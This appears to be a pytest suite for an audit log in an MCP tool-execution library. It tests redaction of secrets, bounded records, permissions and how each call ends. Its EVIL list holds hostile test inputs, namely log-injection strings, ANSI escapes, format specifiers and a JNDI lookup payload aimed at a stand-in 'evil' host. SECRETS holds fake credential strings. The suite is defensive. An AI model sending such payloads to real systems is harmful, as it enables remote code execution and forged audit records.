"""What stands in the log, and what does not."""

# ruff: noqa: ASYNC240, ASYNC110 - small files, and there is no event for what another process writes

from __future__ import annotations

import json
import logging
import re
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_tools.observe.audit import AuditLog, verify
from mcp_tools.observe.audit.redact import Redactor
from mcp_tools.output import masking
from mcp_tools.output.masking import mask_secrets, may_hold_secret
from mcp_tools.types import (
    Approval,
    CallContext,
    Confirmation,
    Decision,
    ErrorCode,
    ExecutionStatus,
    LimitRefusal,
    Ruling,
    Tool,
    ToolOutput,
    Usage,
)
from tests.observe.audit.calls import ended, started

Records = Callable[[], list[dict[str, Any]]]

EVIL = [
    'x\n{"kind":"call.outcome","seq":99}',
    "x\r\nforged",
    "\x1b[2J\x1b[31mred",
    "line\u2028separator",
    "next\x85line",
    "nul\x00byte",
    '"quotes" and \\ and "}',
    "lone \udc80 surrogate",
    "%n%s%x",
    "${jndi:ldap://evil/x}",
    "A" * 100_000,
]
SECRETS = [
    "sk-ant-" + "api03-" + "aB3" * 9,
    "ghp_" + "a1B2" * 9,
    "AKIA" + "ABCDEFGHIJKLMNOP",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "xoxb-" + "123456789012-abcdefghijkl",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----",
]


async def test_evil_arguments_leave_one_bounded_line_each(path: str, records: Records) -> None:
    """G-03, in values, in names of arguments, and in whatever else a client says of itself."""
    with AuditLog(path) as log:
        for number, evil in enumerate(EVIL):
            changes = {"client": evil, "principal": evil, "session_id": evil}
            await log.begin(started(f"c{number}", {"content": evil, evil: [evil, {"deep": evil}]}, **changes))
            await log.end(ended(f"c{number}", status=ExecutionStatus.ERROR, error=evil, tool_name=evil))
    data = Path(path).read_bytes()
    assert re.search(rb"[^\x20-\x7e\n]", data) is None
    assert len(data.splitlines()) == 2 + 2 * len(EVIL)
    assert max(map(len, data.splitlines())) < 16 * 1024
    assert [record["kind"] for record in records()].count("call.intent") == len(EVIL)
    assert verify(path).is_whole


@pytest.mark.parametrize(
    "many", [{"k" * 300 + str(i): "\U0001f600" * 256 for i in range(5000)}, {"a": ["\x00" * 256] * 9999}]
)
async def test_many_arguments_fit_one_bounded_record(path: str, many: dict[str, Any]) -> None:
    with AuditLog(path) as log:
        await log.begin(started("c1", many))
        await log.end(ended("c2", parameters=many, tool_name="\U0001f600" * 200, error="\U0001f600" * 9999))
    assert max(map(len, Path(path).read_bytes().splitlines())) < 16 * 1024
    assert verify(path).is_whole


async def test_what_is_no_json_is_recorded_too(path: str, records: Records) -> None:
    deep: Any = "end"
    for _ in range(3000):
        deep = [deep]
    odd = {"deep": deep, "nan": float("nan"), "big": 10**6000, "bytes": b"\xff", "set": {1}, 5: object()}
    with AuditLog(path) as log:
        await log.begin(started("c1", odd))
        await log.end(ended("c1", result=odd))
    assert [record["kind"] for record in records()][1:3] == ["call.intent", "call.outcome"]


@pytest.mark.parametrize("secret", SECRETS)
async def test_secrets_are_neither_in_the_log_nor_on_stderr(
    path: str, secret: str, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    """G-04: in content and in paths, by their form."""
    caplog.set_level(logging.DEBUG)
    with AuditLog(path) as log:
        await log.begin(
            started("c1", {"content": f"key: {secret} end", "path": f"/srv/{secret}/x", secret: 1})
        )
        await log.end(ended("c1", status=ExecutionStatus.ERROR, error=f"no such file: {secret}"))
        await log.end(ended("c2", result=secret, parameters={"list": [secret, {"x": secret}]}))
    stored = b"".join(file.read_bytes() for file in Path(path).parent.iterdir()).decode("ascii", "replace")
    assert [part for part in secret.split("\n") if part in stored] == []
    assert secret not in caplog.text + "".join(capfd.readouterr())


async def test_values_under_telling_names_are_secret_everywhere_in_the_record(
    path: str, records: Records
) -> None:
    arguments = {
        "password": "hunter2!",
        "Authorization": "Basic Zm9vOmJhcg==",
        "nested": {"api_key": ["k1-xyz", "k2-xyz"]},
        "seat": "12-F",
        "max_tokens": 100,
    }
    with AuditLog(path, redact=["Seat"]) as log:
        await log.begin(started("c1", arguments))
        await log.end(
            ended(
                "c1",
                parameters=arguments,
                status=ExecutionStatus.VALIDATION_ERROR,
                error="password: hunter2! is too short; k1-xyz is unknown",
            )
        )
    text = Path(path).read_text()
    for secret in ("hunter2!", "Zm9vOmJhcg", "k1-xyz", "k2-xyz", "12-F"):
        assert secret not in text
    assert records()[1]["arguments"]["values"]["max_tokens"] == 100


async def test_equal_secrets_can_be_compared_within_a_log_but_not_between_logs(place: Path) -> None:
    found = []
    for name in ("one", "two"):
        path = place / name / "audit.jsonl"
        with AuditLog(path) as log:
            for secret in ("same", "same", "other"):
                await log.begin(started("c", {"token": secret}))
        found.append(re.findall(r'"secret":"(\w+)"', path.read_text()))
    (first, again, other), (elsewhere, *_) = found
    assert first == again
    assert len({first, other, elsewhere}) == 3


async def test_a_record_says_who_what_when_and_by_whose_leave(path: str, records: Records) -> None:
    """G-10."""
    tool = Tool("execute_python", "Runs.", {}, lambda: None, isolation="sandbox")
    structured = {"isolation": "L4"}
    with AuditLog(path) as log:
        await log.begin(started("c1", {"code": "1"}, tool=tool, confirmation_id="q1", channel="elicitation"))
        await log.end(
            ended(
                "c1",
                structured=structured,
                duration_ms=12.5,
                usage=Usage(calls=1, cost_usd=0.5),
                result=ToolOutput(structured=structured),
                confirmation_id="q1",
                channel="elicitation",
            )
        )
    begin, intent, outcome, stop = records()
    assert (begin["kind"], stop["kind"]) == ("server.started", "server.stopped")
    assert intent["v"] == outcome["v"] == 1
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", intent["time"])
    assert intent["monotonic_us"] <= outcome["monotonic_us"]
    assert intent["client"] == "client 1.0"
    assert intent["principal"] == "local"
    assert len(intent["session"]) == 32
    assert intent["arguments"]["digest"]
    assert (intent["decision"], intent["reason"]) == ("allow", "no rule forbids it")
    assert intent["confirmation_id"] == outcome["confirmation_id"] == "q1"
    assert intent["channel"] == outcome["channel"] == "elicitation"
    assert (intent["isolation"], outcome["sandbox"]) == ("sandbox", "L4")
    assert (outcome["status"], outcome["duration_us"], outcome["had_intent"]) == ("success", 12500, True)
    assert outcome["usage"]["cost_usd"] == 0.5
    assert outcome["result"]["bytes"] == len('{"isolation":"L4"}')
    assert [record["seq"] for record in records()] == [1, 2, 3, 4]


async def test_files_are_for_their_owner_alone(place: Path) -> None:
    path = place / "new" / "folder" / "audit.jsonl"
    with AuditLog(path, anchor=place / "elsewhere" / "anchor"):
        pass
    for file in (path, Path(f"{path}.lock"), Path(f"{path}.salt"), place / "elsewhere" / "anchor"):
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file
        assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700


async def test_the_order_is_kept_when_the_clock_is_set_back(path: str, records: Records) -> None:
    """G-13."""
    day_ns = 86_400 * 10**9
    with AuditLog(path) as log:
        for number, clock_ns in enumerate((3 * day_ns, 2 * day_ns, 2 * day_ns, -(10**30))):
            await log.begin(started(f"c{number}", time_unix_ns=clock_ns))
            await log.end(ended(f"c{number}"))
    calls = [record["call_id"] for record in records() if record["kind"] == "call.intent"]
    assert calls == ["c0", "c1", "c2", "c3"]
    assert verify(path).is_whole


class Refusing:
    """A limiter that lets nothing pass."""

    async def admit(self, tool: Tool | None, context: CallContext, *, again: bool) -> LimitRefusal:
        return LimitRefusal(message="too many calls", retry_after_s=2.0, left={"calls": 0.0})

    def slot(self, tool: Tool, context: CallContext) -> Any:
        raise AssertionError("nothing passes")


async def test_every_way_a_call_can_end_is_recorded_with_its_reason(path: str, records: Records) -> None:
    """G-11 and G-12, through the executor."""
    import anyio

    from mcp_tools import ToolExecutor, ToolRegistry

    registry = ToolRegistry()

    @registry.register
    async def hang() -> str:
        """Hang."""
        await anyio.sleep_forever()
        return ""

    @registry.register(timeout=0.02)
    async def slow() -> str:
        """Be slow."""
        await anyio.sleep_forever()
        return ""

    @registry.register(requires_confirmation=True)
    def ask(text: str) -> str:
        """Ask first."""
        return text

    with AuditLog(path) as log:
        executor = ToolExecutor(registry, auditor=log)

        async def call(name: str, arguments: dict[str, Any] | None = None, **context: Any) -> Any:
            return await executor.execute(name, arguments or {}, CallContext(**context))

        await call("nobody")
        await call("ask", {"wrong": 1})
        await call("slow")
        question = (await call("ask", {"text": "hi"})).confirmation
        assert isinstance(question, Confirmation)
        answer = Approval(confirmation_id=question.id, channel="elicitation")
        assert (await call("ask", {"text": "hi"}, approval=answer)).is_success
        await call("ask", {"text": "other"}, approval=answer)
        async with anyio.create_task_group() as group:
            group.start_soon(call, "hang")
            with anyio.fail_after(5):
                while not any(each.get("tool") == "hang" for each in records()):
                    await anyio.sleep(0.01)
            group.cancel_scope.cancel()
        limited = ToolExecutor(registry, auditor=log, limiter=Refusing())
        await limited.execute("slow", {}, CallContext())
    outcomes = [record for record in records() if record["kind"] == "call.outcome"]
    assert [(record["error_code"], record["had_intent"]) for record in outcomes] == [
        (ErrorCode.UNKNOWN_TOOL, False),
        (ErrorCode.INVALID_ARGUMENTS, False),
        (ErrorCode.TIMED_OUT, True),
        (ErrorCode.CONFIRMATION_REQUIRED, False),
        (None, True),
        (ErrorCode.CONFIRMATION_INVALID, False),
        (ErrorCode.CANCELLED, True),
        (ErrorCode.RATE_LIMITED, False),
    ]
    shown, answered = outcomes[3], outcomes[4]
    assert shown["confirmation_id"] == answered["confirmation_id"] == question.id
    assert (shown["channel"], answered["channel"]) == (None, "elicitation")
    assert shown["arguments"]["values"] == {"text": "hi"}
    assert all(record["error"] for record in outcomes if record["error_code"])
    assert verify(path).unfinished_count == 0


async def test_a_denial_says_which_rule(path: str, records: Records) -> None:
    ruling = Ruling(decision=Decision.DENY, reason="rule delete_file(**)")
    with AuditLog(path) as log:
        await log.end(
            ended("c1", status=ExecutionStatus.PERMISSION_DENIED, error_code=ErrorCode.DENIED, ruling=ruling)
        )
    assert (records()[1]["decision"], records()[1]["reason"]) == ("deny", "rule delete_file(**)")


FORMS = (*masking._FOUND_BY_FORM.values(), masking._AUTHORITY, masking._OPTION, masking._PAIR, masking._SIGN)
WORDS = [
    "password",
    "--token",
    "Authorization",
    "Cookie",
    "curl",
    "-u",
    "a",
    "://",
    "@",
    ":",
    "=",
    " ",
    '"',
    ",",
]
PIECES = st.sampled_from([*WORDS, "X7kd93kfKDk3", "value", "name", *masking._FORMS])


@given(st.one_of(st.lists(PIECES, max_size=12).map("".join), *(st.from_regex(form) for form in FORMS)))
def test_the_quick_look_passes_over_nothing_that_masking_finds(text: str) -> None:
    """Drawn from masking's own forms, and masked without the quick look that it begins with."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(masking, "may_hold_secret", lambda text: True)
        masked = mask_secrets(text)
    assert may_hold_secret(text) or masked == text


@pytest.mark.parametrize(
    "arguments",
    [
        *(
            {name: "Zq8vK2mN"}
            for name in ("pass", "bearer", "jwt", "ssh_key", "signing_key", "encryption_key")
        ),
        *({name: "Zq8vK2mN"} for name in ("access_tokens", "refreshTokens", "userPin", "DB_PASS", "cookie")),
        {"argv": ["--token", "Zq8vK2mN"]},
        {"headers": [{"name": "Authorization", "value": "Zq8vK2mN"}]},
        {"env": [{"value": "Zq8vK2mN", "key": "DB_PASS"}]},
        {"headers": [["Authorization", "Zq8vK2mN"]]},
        {"env": ["DB_PASS=Zq8vK2mN"]},
    ],
    ids=str,
)
def test_a_secret_is_known_by_what_names_it(arguments: dict[str, Any]) -> None:
    assert "Zq8vK2mN" not in str(Redactor(b"salt").arguments(arguments)[0])


@pytest.mark.parametrize(
    "name",
    ["tokens", "max_tokens", "token_count", "passenger", "compass", "author", "pinned", "key", "pass_rate"],
)
def test_names_that_only_look_telling_are_recorded(name: str) -> None:
    assert Redactor(b"salt").arguments({name: "12-F"})[0]["values"] == {name: "12-F"}


@pytest.mark.parametrize("secret", ['a"b\nZq8v\u00e9', "it's\\Zq8v", 83649127])
async def test_a_secret_is_taken_out_of_the_error_however_it_was_quoted(path: str, secret: Any) -> None:
    error = f"{secret} and {secret!r} and {json.dumps(secret)}"
    with AuditLog(path) as log:
        await log.end(ended("c1", parameters={"pin": secret}, status=ExecutionStatus.ERROR, error=error))
    text = Path(path).read_text()
    assert "Zq8v" not in text
    assert "83649127" not in text


def test_names_that_shorten_to_the_same_text_are_all_kept() -> None:
    mapping = {"k" * 900 + "1": 1, "k" * 900 + "2": 2, "\u2026": 3}
    assert list(Redactor(b"salt").arguments(mapping)[0]["values"].values()) == [1, 2, 3]
